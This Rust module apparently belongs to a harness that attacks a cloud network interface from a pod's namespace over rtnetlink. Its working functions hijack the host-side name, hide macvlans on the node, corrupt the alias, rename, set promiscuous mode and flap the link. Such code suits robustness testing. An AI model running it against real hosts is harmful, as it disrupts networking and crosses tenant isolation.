//! Attacks on the device itself, and by links in the node's own network namespace.

use std::io;

use anyhow::Context;
use nix::{ifaddrs::getifaddrs, net::if_::if_nametoindex};

use crate::netlink::{ACK, CREATE, Netlink, attribute, message, nested, number, text};

/// Message types (include/uapi/linux/rtnetlink.h).
const NEWLINK: u16 = 16;
const SETLINK: u16 = 19;
const NEWLINKPROP: u16 = 108;
/// Attributes of links (`include/uapi/linux/if_link.h`).
mod ifla {
    pub const IFNAME: u16 = 3;
    pub const MTU: u16 = 4;
    pub const LINK: u16 = 5;
    pub const TXQLEN: u16 = 13;
    pub const LINKINFO: u16 = 18;
    pub const IFALIAS: u16 = 20;
    pub const LINK_NETNSID: u16 = 37;
    pub const TARGET_NETNSID: u16 = 46;
    pub const PROP_LIST: u16 = 52;
    pub const ALT_IFNAME: u16 = 53;
    pub const INFO_KIND: u16 = 1;
    pub const INFO_DATA: u16 = 2;
    pub const MACVLAN_MODE: u16 = 1;
    pub const VLAN_ID: u16 = 1;
}
/// Flags of links (include/uapi/linux/if.h).
const UP: u32 = 1;
const NOARP: u32 = 1 << 7;
const PROMISC: u32 = 1 << 8;
/// `MACVLAN_MODE_BRIDGE`.
const BRIDGE: u32 = 4;
/// Ids of other namespaces are small numbers: the peer of `eth0` gives the pod one of its node.
const NODE_IDS: std::ops::Range<u32> = 0..4;
/// And by such a number the node knows the pod. Here 0 is the VPC, by the node's `eth0`: there the device's index may be that of
/// another ENI's far end.
const POD_IDS: std::ops::Range<u32> = 1..24;
/// A name that the attack gives to a link on the node and to the device.
const TAKEN: &str = "taken0";

/// The device of an ENI.
pub(super) struct Victim {
    pub index: u32,
    name: String,
    /// The name that it has on the node.
    host_name: String,
}

impl Victim {
    pub fn find(interface: &str) -> anyhow::Result<Self> {
        let index = if_nametoindex(interface).with_context(|| format!("find {interface}"))?;
        let mut links = getifaddrs()?.filter(|link| link.interface_name == interface);
        let mac = links
            .find_map(|link| link.address?.as_link_addr()?.addr())
            .context("the device has no MAC")?;
        let digits: Vec<String> = mac.iter().map(|byte| format!("{byte:02x}")).collect();
        Ok(Self {
            index,
            name: interface.to_owned(),
            host_name: format!("ec{}", digits.concat()),
        })
    }
}

/// A `struct ifinfomsg` (rtnetlink(7)).
fn link(index: u32, flags: u32, change: u32) -> Vec<u8> {
    [0, index, flags, change]
        .iter()
        .flat_map(|word| word.to_ne_bytes())
        .collect()
}

fn info(kind: &str, data: &[Vec<u8>]) -> Vec<u8> {
    let attributes = [text(ifla::INFO_KIND, kind), nested(ifla::INFO_DATA, data)];
    nested(ifla::LINKINFO, &attributes)
}

fn set(netlink: &Netlink, victim: &Victim, attributes: &[Vec<u8>]) -> io::Result<()> {
    netlink.ask(&message(
        SETLINK,
        ACK,
        &link(victim.index, 0, 0),
        attributes,
    ))
}

fn change(netlink: &Netlink, victim: &Victim, flags: u32, mask: u32) -> io::Result<()> {
    netlink.ask(&message(
        NEWLINK,
        ACK,
        &link(victim.index, flags, mask),
        &[],
    ))
}

/// Makes a link in the first of the namespaces that takes it; `Ok` also when it is there already.
fn push(netlink: &Netlink, attributes: &[Vec<u8>]) -> io::Result<()> {
    let mut outcome = Err(io::ErrorKind::NotFound.into());
    for id in NODE_IDS {
        let attributes = [attributes, &[number(ifla::TARGET_NETNSID, id)]].concat();
        let message = message(NEWLINK, ACK | CREATE, &link(0, UP, UP), &attributes);
        let pushed = netlink.ask(&message).or_else(|error| match error.kind() {
            io::ErrorKind::AlreadyExists => Ok(()),
            _ => Err(error),
        });
        outcome = outcome.or(pushed);
    }
    outcome
}

/// Takes the name that the device has on the node, so that it cannot have it when it returns.
pub(super) fn push_namesakes(netlink: &Netlink, victim: &Victim) -> io::Result<()> {
    push(
        netlink,
        &[text(ifla::IFNAME, &victim.host_name), info("bridge", &[])],
    )
}

/// A link cannot come to where its altname is a link's name.
pub(super) fn push_altname(netlink: &Netlink, victim: &Victim) -> io::Result<()> {
    push(netlink, &[text(ifla::IFNAME, TAKEN), info("bridge", &[])])?;
    add_altname(netlink, victim, TAKEN)
}

/// On the node, out of the sight of whoever looks into the pod.
pub(super) fn push_macvlans(netlink: &Netlink, victim: &Victim) -> io::Result<()> {
    let mut outcome = Err(io::ErrorKind::NotFound.into());
    for id in POD_IDS {
        let attributes = [
            text(ifla::IFNAME, "mvnode"),
            number(ifla::LINK, victim.index),
            number(ifla::LINK_NETNSID, id),
            info("macvlan", &[number(ifla::MACVLAN_MODE, BRIDGE)]),
        ];
        let pushed = push(netlink, &attributes);
        outcome = outcome.or(pushed);
    }
    outcome
}

pub(super) fn macvlans(netlink: &Netlink, victim: &Victim) -> io::Result<()> {
    for name in ["mv0", "mv1", "mv2"] {
        let data = number(ifla::MACVLAN_MODE, BRIDGE);
        stack(netlink, victim, name, info("macvlan", &[data]))?;
    }
    Ok(())
}

pub(super) fn vlan(netlink: &Netlink, victim: &Victim) -> io::Result<()> {
    let id = attribute(ifla::VLAN_ID, &7_u16.to_ne_bytes());
    stack(netlink, victim, "vlan7", info("vlan", &[id]))
}

/// Makes an upper device.
fn stack(netlink: &Netlink, victim: &Victim, name: &str, info: Vec<u8>) -> io::Result<()> {
    let attributes = [
        text(ifla::IFNAME, name),
        number(ifla::LINK, victim.index),
        info,
    ];
    let flags = ACK | CREATE;
    netlink.ask(&message(NEWLINK, flags, &link(0, UP, UP), &attributes))
}

pub(super) fn alias(netlink: &Netlink, victim: &Victim) -> io::Result<()> {
    set(
        netlink,
        victim,
        &[attribute(ifla::IFALIAS, &[0xff, 0xfe, 0xc3, 0x28])],
    )
}

pub(super) fn altnames(netlink: &Netlink, victim: &Victim) -> io::Result<()> {
    for n in 0..16 {
        add_altname(netlink, victim, &format!("alternative{n}"))?;
    }
    add_altname(netlink, victim, &victim.host_name)
}

fn add_altname(netlink: &Netlink, victim: &Victim, name: &str) -> io::Result<()> {
    let names = nested(ifla::PROP_LIST, &[text(ifla::ALT_IFNAME, name)]);
    let flags = ACK | CREATE;
    netlink.ask(&message(
        NEWLINKPROP,
        flags,
        &link(victim.index, 0, 0),
        &[names],
    ))
}

pub(super) fn rename(netlink: &Netlink, victim: &Victim) -> io::Result<()> {
    set(netlink, victim, &[text(ifla::IFNAME, "stolen")])
}

pub(super) fn small(netlink: &Netlink, victim: &Victim) -> io::Result<()> {
    set(netlink, victim, &[number(ifla::MTU, 576)])
}

pub(super) fn flags(netlink: &Netlink, victim: &Victim) -> io::Result<()> {
    change(netlink, victim, PROMISC | NOARP, PROMISC | NOARP)?;
    set(netlink, victim, &[number(ifla::TXQLEN, 1)])
}

/// Up and down, one name and the other, in turns.
pub(super) fn flap(netlink: &Netlink, victim: &Victim, round: u32) -> io::Result<()> {
    if round.is_multiple_of(2) {
        change(netlink, victim, 0, UP)?;
        set(netlink, victim, &[text(ifla::IFNAME, "stolen")])
    } else {
        set(netlink, victim, &[text(ifla::IFNAME, &victim.name)])?;
        change(netlink, victim, UP, UP)
    }
}
